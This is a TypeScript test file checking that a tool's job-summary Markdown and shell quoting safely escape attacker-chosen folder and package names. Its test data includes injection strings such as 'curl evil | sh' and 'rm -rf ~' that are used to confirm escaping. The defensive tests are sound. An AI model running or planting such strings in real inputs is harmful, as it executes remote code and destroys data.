import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PolicyOptions } from '../src/policy/types.js';
import { fixSummary, shellWord } from '../src/report/fix-summary.js';
import type { ProgramRecord, RunRecord } from '../src/report/run-report.js';
import { summaryMarkdown } from '../src/report/summary.js';
import { markdownCode, markdownCodeBlock, markdownText } from '../src/util/log-text.js';

// Names an attacker can choose: a folder, a package, a link target in a pull request.
const HOSTILE = ['a`b', 'x | y', '<script>alert(1)</script>', 'one\ntwo\rthree', '](https://evil.example) [x', '``', '` x `', "q'; curl evil | sh; '"];

/** What a code span shows, read as CommonMark reads it; fails when the text is not one code span. */
function codeSpanText(markdown: string): string {
  const fence = /^`+/.exec(markdown)?.[0] ?? '';
  assert.ok(fence && markdown.endsWith(fence) && markdown.length > 2 * fence.length, `${JSON.stringify(markdown)} is one code span`);
  const inner = markdown.slice(fence.length, -fence.length);
  for (const run of inner.match(/`+/g) ?? []) assert.notEqual(run.length, fence.length, `${JSON.stringify(markdown)}: no run inside closes the span`);
  return /^ .*[^ ].* $/.test(inner) ? inner.slice(1, -1) : inner;
}

/** A table row's cells as GitHub splits them: on every pipe not escaped by a backslash. */
function cells(row: string): string[] {
  return row.replace(/^\| | \|$/g, '').split(/(?<!\\) \| /);
}

function record(name: string): RunRecord {
  const program: ProgramRecord = {
    dir: `/w/${name}`,
    name,
    links: [{ name, target: `/links/${name}`, version: `1.0.0 ${name}` }] as ProgramRecord['links'],
    policy: { dir: `/w/${name}`, findings: [], packages: [{ name, section: 'dependencies', range: name, usedBy: [name], findings: [] }] },
  };
  return {
    workspace: '/w',
    settings: {
      preset: { name, origin: 'input' },
      registry: { url: 'https://registry.example/', routed: true },
      scope: name,
      workingDirectories: [name],
      install: true,
      packageManager: 'auto',
      installCommand: name,
      links: [name],
      cache: 'true',
      policy: 'warn',
      policyFile: undefined,
      token: 'input',
    },
    cache: { hit: false, primaryKey: name, matchedKey: name, saved: false, note: name },
    programs: [program],
    phases: [{ name: `Install ${name}`, startSeconds: 0, seconds: 1 }],
    failure: name,
  };
}

describe('the job summary escapes every name it prints', () => {
  for (const name of HOSTILE) {
    const shown = name.replace(/\r\n|\r|\n/g, ' ');
    it(`in headings, tables and inline code: ${JSON.stringify(name)}`, () => {
      const summary = summaryMarkdown(record(name));
      const lines = summary.split('\n');
      const heading = lines.find((line) => line.startsWith('### Program '));
      assert.equal(codeSpanText(heading!.slice('### Program '.length)), shown, 'the heading shows the name, nothing else');
      const link = lines.find((line) => line.startsWith('- ') && line.includes(' linked to '));
      assert.equal(codeSpanText(link!.slice(2, link!.indexOf(' linked to '))), shown);
      const tableRows = lines.filter((line) => line.startsWith('|'));
      for (const row of tableRows) assert.ok([2, 3, 5].includes(cells(row).length), `${JSON.stringify(row)} keeps its columns`);
      const packageRow = tableRows.find((row) => row.endsWith('| ok |'));
      assert.equal(cells(packageRow!).length, 5, 'the package row has its five cells');
      assert.equal(lines.filter((line) => /^#/.test(line)).length, 3, 'no name starts a heading of its own');
      assert.ok(!/<[a-z]/i.test(summary.replace(/\\</g, '').replace(/`[^`]*`/g, '')), 'no HTML outside code spans');
      assert.ok(!/(?<!\\)\]\(/.test(summary.replace(/`+[^`]*`+/g, '')), 'no link outside code spans');
    });
  }

  it('markdownText escapes markup, HTML, entities and math; markdownCode escapes pipes only in tables', () => {
    assert.equal(markdownText('&lt; $x$ a|b'), '\\&lt; \\$x\\$ a\\|b');
    assert.equal(markdownCode('a|b'), '`a\\|b`');
    assert.equal(markdownCode('a|b', 'text'), '`a|b`');
    assert.equal(markdownCode(' a '), '`  a  `', 'a space at both ends survives');
    assert.deepEqual(markdownCodeBlock('a\n```\nb', 'diff'), ['````diff', 'a\n```\nb', '````']);
  });
});

describe('the fixes section', () => {
  it('names a hostile folder as one code span, with the message escaped', async () => {
    const name = 'a`b](x) | `` c';
    const program: ProgramRecord = {
      dir: `/nonexistent-${process.pid}/${name}`,
      name,
      policy: {
        dir: '/',
        packages: [],
        findings: [{ rule: 'scoped-in-dependencies', severity: 'error', file: 'package.json', line: 1, column: 1, endLine: 1, endColumn: 1, message: '' }],
      },
    };
    // The program's folder is gone: reading it fails, and the section says so under its heading.
    const text = await fixSummary('/', [program], async () => ({ config: {} }) as PolicyOptions, undefined);
    const [heading, , message] = text.split('\n');
    assert.equal(codeSpanText(heading!.slice('### Fixes for '.length)), name);
    assert.match(message!, /^The fixes could not be worked out: /);
    assert.ok(message!.includes(markdownText(name)), `the message names the folder escaped: ${message}`);
  });

  it('quotes a folder name for the shell when it is not plain', () => {
    assert.equal(shellWord('infra/app-1'), 'infra/app-1');
    assert.equal(shellWord("a'b; rm -rf ~"), "'a'\\''b; rm -rf ~'");
    assert.equal(shellWord('$(id)'), "'$(id)'");
  });
});

describe("the job summary names the repository root's program for what it is", () => {
  it('in its heading and in the programs found and skipped', () => {
    const root = {
      ...record('.'),
      selection: { searches: ['auto'], found: ['.'], passedOver: [], changedSince: 'abcdef1234', skipped: [{ program: '.', reason: 'r' }] },
    };
    const summary = summaryMarkdown(root);
    assert.match(summary, /^### Program at the repository root \(`\.`\)$/m);
    assert.match(summary, /^\*\*Programs \(`auto`\):\*\* the repository root \(`\.`\)\.$/m);
    assert.match(summary, /^\*\*Skipped \(changed-since `abcdef1`\):\*\* the repository root \(`\.`\) \(r\)\.$/m);
  });
});
